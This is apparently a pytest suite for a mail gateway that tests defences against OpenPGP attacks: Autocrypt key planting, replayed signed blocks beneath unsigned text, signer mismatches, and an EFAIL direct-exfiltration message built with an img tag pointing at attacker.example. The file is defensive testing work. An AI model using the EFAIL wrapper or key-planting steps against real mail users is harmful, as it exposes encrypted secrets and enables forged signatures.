"""Issue 21, OpenPGP side, written as the attacks: an outside client (127.0.0.2, not in
smtp.internal_networks) with real gpg keys and signatures tries to make sealgate vouch for a
forgery. Autocrypt key planting (for an internal address, for a partner whose key was
imported, before the real key), a replayed clear-signed block under unsigned text, EFAIL
direct exfiltration, a signer who is not the From address; and the genuine case stays valid
(an imported key, or the partner's own upload on the portal), as does encryption to a learned
key where pgp.autocrypt_encrypt allows it."""

import base64
import os
import re
import smtplib

import pytest

from conftest import maildir_routes
from sgrig import maildir_messages, port_open, wait_for, wait_maildir
from test_pgp_flow import Gpg, pgp_payload, send
from test_portal import Browser, register

OUTSIDE = "127.0.0.2"


@pytest.fixture
def keys(workdir):
    """Two gpg homes: the genuine partner's (bob) and the attacker's."""
    made = {"bob": Gpg(str(workdir / "bob-gnupg")), "evil": Gpg(str(workdir / "evil-gnupg"))}
    yield made
    for g in made.values():
        g.close()


@pytest.fixture
def trust_gw(gateway, keys, workdir):
    """bob@partner.test's real key imported by the admin; alice@example.com has a gateway key."""
    keys["bob"].new_key("bob@partner.test")
    (workdir / "bob.asc").write_bytes(keys["bob"].export("bob@partner.test"))
    r = gateway.cli("pgp", "import", str(workdir / "bob.asc"))
    assert r.returncode == 0, r.stdout + r.stderr
    r = gateway.cli("pgp", "generate", "alice@example.com")
    assert r.returncode == 0, r.stdout + r.stderr
    return gateway


def crlf(data):
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def from_outside(gw, sender, rcpt, headers, body, subject="note"):
    """An outside client sends a message with the given extra header lines and body."""
    msg = (f"From: {sender}\r\nTo: {rcpt}\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n"
           f"{headers}\r\n").encode() + crlf(body)
    with smtplib.SMTP("127.0.0.1", gw.port, timeout=30, source_address=(OUTSIDE, 0)) as s:
        s.sendmail(sender, [rcpt], msg)


def delivered(gw, rcpt, subject="note"):
    """The message with this subject in rcpt's Maildir, once it is there."""
    box = os.path.join(gw.md_int, rcpt)
    rx = re.compile(rb"^Subject: " + subject.encode() + rb"\r?$", re.M)
    wait_for(lambda: any(rx.search(m) for m in maildir_messages(box)), 20, what=f"'{subject}'")
    return next(m for m in maildir_messages(box) if rx.search(m))


def security(raw):
    m = re.search(rb"^X-Sealgate-Security: (.*?)\r?$", raw, re.M)
    assert m, raw[:1500]
    return m.group(1).decode()


def autocrypt_field(gpg, addr):
    key = gpg.run("--export", addr).stdout
    return f"Autocrypt: addr={addr}; keydata={base64.b64encode(key).decode()}\r\n"


def clearsign(gpg, addr, text):
    return gpg.run("--clearsign", "-u", addr, input=text.encode()).stdout


TEXT = "Content-Type: text/plain; charset=us-ascii\r\n"


def key_rows(gw, addr):
    """fingerprint -> the rest of its `pgp list` line."""
    out = gw.cli("pgp", "list", addr).stdout
    return {m.group(1): m.group(2) for m in re.finditer(r"([0-9A-F]{40}) (.*)", out)}


def test_autocrypt_planting_for_internal_address_is_refused(trust_gw, keys):
    evil = keys["evil"]
    evil.new_key("carol@example.com")
    from_outside(trust_gw, "carol@example.com", "alice@example.com",
                 TEXT + autocrypt_field(evil, "carol@example.com"), b"hello colleague\n")
    delivered(trust_gw, "alice@example.com")
    assert key_rows(trust_gw, "carol@example.com") == {}  # learning runs before delivery
    trust_gw.wait_log(r"Autocrypt key for our own address <carol@example.com> not learned")
    # the forged "colleague" signature that the planted key was for
    forged = clearsign(evil, "carol@example.com", "Please approve invoice 4711 today.\n")
    from_outside(trust_gw, "carol@example.com", "alice@example.com", TEXT, forged, "forged")
    raw = delivered(trust_gw, "alice@example.com", "forged")
    verdict = security(raw)
    assert "signature=valid" not in verdict, verdict
    assert verdict.startswith("signature=untrusted;"), verdict


def test_autocrypt_planting_for_imported_partner_keeps_real_key(trust_gw, keys, workdir):
    bob, evil = keys["bob"], keys["evil"]
    real = bob.fpr("bob@partner.test")
    planted = evil.new_key("bob@partner.test")
    from_outside(trust_gw, "bob@partner.test", "alice@example.com",
                 TEXT + autocrypt_field(evil, "bob@partner.test"), b"new key, trust me\n")
    delivered(trust_gw, "alice@example.com")
    trust_gw.wait_log(r"announced a different OpenPGP key")
    rows = key_rows(trust_gw, "bob@partner.test")
    assert "imported active" in re.sub(r"\s+", " ", rows[real]), rows
    assert "pending" in rows[planted], rows
    # outbound encryption goes to the real key only
    send(trust_gw.port, ["bob@partner.test"], "[secure] payroll")
    box = os.path.join(trust_gw.md_ext, "bob@partner.test")
    wait_maildir(box, 1)
    r = bob.run("--decrypt", input=pgp_payload(maildir_messages(box)[0]), check=False)
    assert b"PGP figures" in r.stdout, r.stderr  # rc 2: alice's signing key is unknown to gpg
    packets = bob.run("--list-packets", input=pgp_payload(maildir_messages(box)[0]),
                      check=False).stdout.decode()
    evil_subs = re.findall(r"^sub:[^:]*:[^:]*:[^:]*:([0-9A-F]{16}):",
                           evil.run("--with-colons", "--list-keys").stdout.decode(), re.M)
    assert evil_subs and not any(k in packets for k in evil_subs)


def test_planted_key_first_never_outranks_a_later_import(trust_gw, keys, workdir):
    evil, real_gpg = keys["evil"], Gpg(str(workdir / "dave-gnupg"))
    try:
        planted = evil.new_key("dave@partner.test")
        from_outside(trust_gw, "dave@partner.test", "alice@example.com",
                     TEXT + autocrypt_field(evil, "dave@partner.test"), b"hi\n")
        delivered(trust_gw, "alice@example.com")
        trust_gw.wait_log(r"learned OpenPGP key")
        # a learned key alone never authenticates its sender
        signed = clearsign(evil, "dave@partner.test", "Lunch at noon?\n")
        from_outside(trust_gw, "dave@partner.test", "alice@example.com", TEXT, signed, "signed")
        verdict = security(delivered(trust_gw, "alice@example.com", "signed"))
        assert verdict == ("signature=unverified-key; signer=<dave@partner.test> (OpenPGP, "
                           "key learned from a mail header, not verified)"), verdict
        assert "unverified" in key_rows(trust_gw, "dave@partner.test")[planted]
        # nor encrypts (pgp.autocrypt_encrypt = no): the tagged mail is held for the portal
        send(trust_gw.port, ["dave@partner.test"], "[secure] not to the planted key")
        trust_gw.wait_log(r"to=<dave@partner.test>, relay=store, .*status=held")
        box = os.path.join(trust_gw.md_ext, "dave@partner.test")
        assert not any(b"BEGIN PGP MESSAGE" in m for m in maildir_messages(box))
        # the admin imports dave's real key: it outranks the learned one at once
        real = real_gpg.new_key("dave@partner.test")
        (workdir / "dave.asc").write_bytes(real_gpg.export("dave@partner.test"))
        assert trust_gw.cli("pgp", "import", str(workdir / "dave.asc")).returncode == 0
        send(trust_gw.port, ["dave@partner.test"], "[secure] to the real key")
        wait_for(lambda: any(b"BEGIN PGP MESSAGE" in m for m in maildir_messages(box)), 20,
                 what="the PGP/MIME copy for dave")
        enc = next(m for m in maildir_messages(box) if b"BEGIN PGP MESSAGE" in m)
        r = real_gpg.run("--decrypt", input=pgp_payload(enc), check=False)
        assert b"PGP figures" in r.stdout, r.stderr
        assert list(key_rows(trust_gw, "dave@partner.test"))[0] == real
    finally:
        real_gpg.close()


def test_replayed_signed_block_under_unsigned_text_is_partial(trust_gw, keys):
    genuine = clearsign(keys["bob"], "bob@partner.test", "Lunch at noon?\n")
    body = b"URGENT: wire EUR 90,000 to DE00 1234 5678 today.\n\n" + genuine
    from_outside(trust_gw, "bob@partner.test", "alice@example.com", TEXT, body)
    raw = delivered(trust_gw, "alice@example.com")
    verdict = security(raw)
    assert verdict == ("signature=partial; signer=<bob@partner.test> (OpenPGP, covers only "
                       "part of the message)"), verdict
    assert b"URGENT: wire EUR 90,000" in raw and b"BEGIN PGP SIGNED MESSAGE" in raw


def test_efail_direct_exfiltration_is_not_decrypted(trust_gw, keys, workdir):
    bob = keys["bob"]
    (workdir / "alice.asc").write_text(trust_gw.cli("pgp", "export", "alice@example.com").stdout)
    bob.run("--import", str(workdir / "alice.asc"))
    secret = "the merger closes on Friday"
    armored = bob.run("--armor", "--encrypt", "--trust-model", "always", "-r",
                      "alice@example.com", input=secret.encode()).stdout
    b = "efail-boundary"
    body = (f"--{b}\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/x?\r\n"
            f"--{b}\r\nContent-Type: text/plain\r\n\r\n").encode() + crlf(armored) + \
        (f"\r\n--{b}\r\nContent-Type: text/html\r\n\r\n\">\r\n--{b}--\r\n").encode()
    from_outside(trust_gw, "bob@partner.test", "alice@example.com",
                 f"Content-Type: multipart/mixed; boundary=\"{b}\"\r\n", body)
    raw = delivered(trust_gw, "alice@example.com")
    assert security(raw) == "encrypted=pgp; decrypted=no (mixed content)"
    assert secret.encode() not in raw
    assert b"-----BEGIN PGP MESSAGE-----" in raw and b"attacker.example" in raw


def test_genuine_signed_mail_of_trusted_partner_is_valid(trust_gw, keys):
    genuine = clearsign(keys["bob"], "bob@partner.test", "Lunch at noon?\n")
    from_outside(trust_gw, "bob@partner.test", "alice@example.com", TEXT, b"\n" + genuine)
    verdict = security(delivered(trust_gw, "alice@example.com"))
    assert verdict == "signature=valid; signer=<bob@partner.test> (OpenPGP)", verdict


def test_signer_other_than_from_is_valid_other_signer(trust_gw, keys):
    signed = clearsign(keys["bob"], "bob@partner.test", "Approve the transfer.\n")
    from_outside(trust_gw, "ceo@partner.test", "alice@example.com", TEXT, signed)
    verdict = security(delivered(trust_gw, "alice@example.com"))
    assert verdict == ("signature=valid-other-signer; signer=<bob@partner.test> (OpenPGP, the "
                       "key is not the From address's)"), verdict


def test_autocrypt_encrypt_lets_a_learned_key_encrypt_but_not_authenticate(gw_factory, keys,
                                                                           workdir):
    gw = gw_factory()
    gw.md_int, gw.md_ext = maildir_routes(gw, str(workdir))
    gw.set(**{"pgp.autocrypt_encrypt": "yes"})
    gw.start()
    dave = keys["bob"]  # this time the header is genuine: TOFU for encryption
    dave.new_key("dave@partner.test")
    from_outside(gw, "dave@partner.test", "alice@example.com",
                 TEXT + autocrypt_field(dave, "dave@partner.test"), b"hi\n")
    delivered(gw, "alice@example.com")
    send(gw.port, ["dave@partner.test"], "[secure] to the learned key")
    box = os.path.join(gw.md_ext, "dave@partner.test")
    wait_maildir(box, 1)
    r = dave.run("--decrypt", input=pgp_payload(maildir_messages(box)[0]), check=False)
    assert b"PGP figures" in r.stdout, r.stderr
    signed = clearsign(dave, "dave@partner.test", "Lunch at noon?\n")
    from_outside(gw, "dave@partner.test", "alice@example.com", TEXT, signed, "signed")
    verdict = security(delivered(gw, "alice@example.com", "signed"))
    assert verdict.startswith("signature=unverified-key;"), verdict


def test_portal_upload_is_trusted_and_outranks_a_planted_key(gw_factory, keys, workdir):
    gw = gw_factory()
    gw.md_int, gw.md_ext = maildir_routes(gw, str(workdir))
    gw.start()
    wait_for(lambda: port_open(gw.portal_port), 20, what="portal port")
    evil, erin = keys["evil"], keys["bob"]
    planted = evil.new_key("erin@partner.test")
    from_outside(gw, "erin@partner.test", "alice@example.com",
                 TEXT + autocrypt_field(evil, "erin@partner.test"), b"hi\n")
    delivered(gw, "alice@example.com")
    # erin logs in to the portal and uploads her own key
    real = erin.new_key("erin@partner.test")
    b = Browser(gw.portal_port)
    register(gw, b, addr="erin@partner.test")
    r = b.upload("/account/upload", erin.export("erin@partner.test"), "/account")
    assert r.status == 303, r.text
    rows = key_rows(gw, "erin@partner.test")
    assert list(rows)[0] == real and re.match(r"portal\s+active", rows[real]), rows
    assert "unverified" in rows[planted]
    signed = clearsign(erin, "erin@partner.test", "Lunch at noon?\n")
    from_outside(gw, "erin@partner.test", "alice@example.com", TEXT, signed, "signed")
    verdict = security(delivered(gw, "alice@example.com", "signed"))
    assert verdict == "signature=valid; signer=<erin@partner.test> (OpenPGP)", verdict
